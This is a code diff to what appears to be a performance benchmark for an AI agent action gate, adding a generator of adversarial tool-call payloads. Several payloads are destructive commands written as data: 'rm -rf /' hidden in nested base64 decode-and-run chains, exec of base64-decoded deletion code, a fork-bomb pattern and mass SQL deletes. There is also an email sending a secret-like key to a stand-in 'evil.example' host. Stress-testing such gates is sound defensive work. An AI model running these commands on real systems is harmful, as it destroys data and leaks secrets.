@@ -15,6 +15,7 @@ perf_counter_ns around ``gate.decide``. Reported separately:
 from __future__ import annotations
 
 import argparse
+import base64
 import json
 import random
 import statistics
@@ -36,6 +37,45 @@ HOSTILE = [
     ("make_payment", {"amount": 25000, "to": "unknown"}), ("make_payment", {"amount": 500, "to": "vendor"}), ("unknown_tool", {"x": 1}),
     ("send_email", {"to": "x@evil.example", "body": "AKIAABCDEFGHIJKLMNOP"}), ("delete_file", {"path": "/", "recursive": True}),
 ]
+
+
+def adversarial_payloads(gate: ActionGate) -> list[tuple[str, str, dict]]:
+    """Payloads built to make the gate work hard, each as large as the policy's limits allow
+    (max_script_chars per code payload, max_argument_chars per call)."""
+    script = gate.policy.limits.max_script_chars
+    body = gate.policy.limits.max_argument_chars
+    b64 = "rm -rf /"
+    for _ in range(12):
+        b64 = f"echo {base64.b64encode(b64.encode()).decode()} | base64 -d | sh"
+    nested_json: dict = {"command": "ls"}
+    for _ in range(2000):
+        nested_json = {"x": nested_json}
+    fill = lambda unit, limit: unit * max(1, (limit - 64) // len(unit))  # noqa: E731
+    return [
+        ("python a=a+a x24 (issue 11)", "python", {"code": "import os\na='x'\n" + "a=a+a\n" * 24 + "os.system(a)"}),
+        ("python a=a+a x30", "python", {"code": "import os\na='x'\n" + "a=a+a\n" * 30 + "os.system(a)"}),
+        ("python doubling to the script limit", "python", {"code": "import os\na='x'\n" + fill("a=a+a\n", script) + "os.system(a)"}),
+        ("python deep nesting", "python", {"code": "x=" + "[" * 5000 + "]" * 5000}),
+        ("python exec(b64) chain", "python", {"code": fill("exec(__import__('base64').b64decode('cm0gLXJmIC8='))\n", script)}),
+        ("shell a=$a$a doubling", "shell", {"command": "a=x\n" + fill("a=$a$a\n", script) + "rm -rf $a"}),
+        ("shell 12-level base64|sh", "shell", {"command": b64[:script]}),
+        ("shell nested $( )", "shell", {"command": "$(" * 3000 + "ls" + ")" * 3000}),
+        ("shell many substitutions", "shell", {"command": fill("$(echo a)", script)}),
+        ("shell long pipeline into sh", "shell", {"command": "echo rm -rf / " + fill("| cat ", script - 40) + "| sh"}),
+        ("shell many heredocs", "shell", {"command": fill("cat > /tmp/a <<EOF\nx\nEOF\nsh /tmp/a\n", script)}),
+        ("shell many for-loops", "shell", {"command": fill("for d in a b c d e f g h i j k l m n o p; do rm -rf $d $d $d; done\n", script)}),
+        ("shell fork-bomb regex stress", "shell", {"command": fill("f(){ f|f& };", script)}),
+        ("shell unbalanced quotes", "shell", {"command": fill("'\"", script)}),
+        ("shell printf escapes", "shell", {"command": "printf '" + fill("\\x41", script - 20) + "' | sh"}),
+        ("sql deep parens", "sql", {"query": "SELECT " + "(" * 5000 + "1" + ")" * 5000}),
+        ("sql many statements", "sql", {"query": fill("DELETE FROM t WHERE id = 1;", script)}),
+        ("sql nested EXEC concat", "sql", {"query": "EXEC(" + fill("'a'+", script - 10) + "'b')"}),
+        ("json nested 2000 levels", "shell", nested_json),
+        ("many argument leaves", "shell", {"command": "ls", "extra": [fill("x ", 60)] * (body // 64)}),
+        ("secrets scan of a full body", "http_request", {"url": "https://example.com/", "body": fill("eyJhbGciOi", body)}),
+        ("base64 tokens in a full body", "http_request", {"url": "https://example.com/", "body": fill("QUFBQUFBQUFBQUFBQUFBQUFBQUFB ", body)}),
+        ("url with a huge host", "http_request", {"url": "http://" + fill("1.", body - 20) + "1/"}),
+    ]
 
 
 def load_mix(n: int, seed: int) -> list[Action]:
